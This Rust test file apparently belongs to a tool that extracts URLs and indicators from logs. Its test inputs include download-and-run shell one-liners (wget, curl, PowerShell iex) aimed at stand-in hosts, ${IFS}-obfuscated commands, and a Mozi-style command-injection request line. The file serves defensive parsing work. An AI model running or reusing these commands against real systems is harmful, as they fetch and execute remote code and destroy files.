//! What stands beside a URL without a blank between: commands, other URLs, and signs of the terminal.

use crate::cases::only;

#[test]
fn a_command_behind_a_url_is_no_part_of_it() {
    for (text, url) in [
        ("wget http://198.51.100.7/bins.sh;chmod 777 bins.sh", "http://198.51.100.7/bins.sh"),
        ("curl -O http://dl.badhost.test/b;./b", "http://dl.badhost.test/b"),
        ("wget http://dl.badhost.test/c&&sh c", "http://dl.badhost.test/c"),
        ("wget http://dl.badhost.test/c||curl x", "http://dl.badhost.test/c"),
        ("powershell iwr http://dl.badhost.test/a.ps1;iex x", "http://dl.badhost.test/a.ps1"),
        (
            "GET /cgi?cmd=rm+-rf+/tmp/*;wget+http://198.51.100.10:37025/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&x=1 HTTP/1.0",
            "http://198.51.100.10:37025/Mozi.m",
        ),
        ("GET /x?cmd=wget%20http://dl.badhost.test/a.sh%3Bsh%20a.sh HTTP/1.1", "http://dl.badhost.test/a.sh"),
        ("GET /x?c=wget%20http://dl.badhost.test/a.sh%20-O%20/tmp/x HTTP/1.1", "http://dl.badhost.test/a.sh"),
        ("wget${IFS}http://dl.badhost.test/a${IFS}-O${IFS}/tmp/a", "http://dl.badhost.test/a"),
        ("cd /tmp;http://dl.badhost.test/a;chmod +x a", "http://dl.badhost.test/a"),
    ] {
        only(text, &[url]);
    }
}

#[test]
fn signs_of_a_shell_that_belong_to_a_url_stay_in_it() {
    for url in [
        "http://dl.badhost.test/a;jsessionid=1A2B?x=1",
        "http://dl.badhost.test/a?x=1;y=2",
        "http://dl.badhost.test/a%20b.exe",
        "http://dl.badhost.test/a?q=x+-y",
        "http://dl.badhost.test/a?b&&c",
        "http://dl.badhost.test/a;chapter",
    ] {
        only(&format!("see {url} now"), &[url]);
    }
    only("wget \"http://dl.badhost.test/a?x=1&y=2\"", &["http://dl.badhost.test/a?x=1&y=2"]);
}

#[test]
fn a_url_ends_at_the_comma_behind_which_another_value_begins() {
    let three = ["http://badhost.test/x", "198.51.100.7", "7809376fe32e44c957347816a47b3d65"];
    only(&three.join(","), &three);
    only(&three.join(";"), &three);
    only("url=http://badhost.test/x,ip=198.51.100.7,user=bob", &["http://badhost.test/x", "198.51.100.7"]);
    only("seen: id=1,url=http://badhost.test/x,Computer=WS1", &["http://badhost.test/x"]);
    only(
        "urls: http://badhost.test/x,b.badhost.test,hxxp://c[.]badhost[.]test/y,198.51.100.7",
        &["http://badhost.test/x", "b.badhost.test", "http://c.badhost.test/y", "198.51.100.7"],
    );
    only("http://badhost.test/e。http://b.badhost.test/f", &["http://badhost.test/e", "http://b.badhost.test/f"]);
    for url in
        ["http://badhost.test/x,y;z", "http://badhost.test/?s=a.example,b.example", "http://badhost.test/a=80,b=75/c"]
    {
        only(url, &[url]);
    }
}

#[test]
fn a_url_that_is_encoded_twice_is_read_and_makes_up_no_host() {
    for (text, url) in [
        ("GET /r?u=http%253A%252F%252Fdl.badhost.test%252Fa HTTP/1.1", "http://dl.badhost.test/a"),
        ("GET /r?u=http%25253A%25252F%25252Fdl.badhost.test%25252Fa HTTP/1.1", "http://dl.badhost.test/a"),
        ("GET /r?u=https%3A%2F%2Fdl.badhost.test%2Fa%253Fb HTTP/1.1", "https://dl.badhost.test/a%3Fb"),
    ] {
        only(text, &[url]);
    }
    only("e=bob%2540badhost.test HTTP/1.1", &["badhost.test"]);
    only("x=%2Fbadhost.test y=%252fother.test", &["badhost.test", "other.test"]);
}

#[test]
fn urls_without_anything_between_them_are_each_found() {
    only("http://dl.badhost.nethttp://evil.badhost.test/b", &["http://dl.badhost.net", "http://evil.badhost.test/b"]);
    only(
        "http://a.badhost.testhttps://b.badhost.testftp://c.badhost.test/x",
        &["http://a.badhost.test", "https://b.badhost.test", "ftp://c.badhost.test/x"],
    );
    only("https://dl.badhost.test/http://other.test/x", &["https://dl.badhost.test/http://other.test/x"]);
}

#[test]
fn the_archive_of_a_page_is_cut_where_its_part_is_named() {
    only(
        "mhtml:http://dl.badhost.test/x.html!http://dl.badhost.test/y.html",
        &["http://dl.badhost.test/x.html", "http://dl.badhost.test/y.html"],
    );
    only("http://dl.badhost.test/a!b", &["http://dl.badhost.test/a!b"]);
}
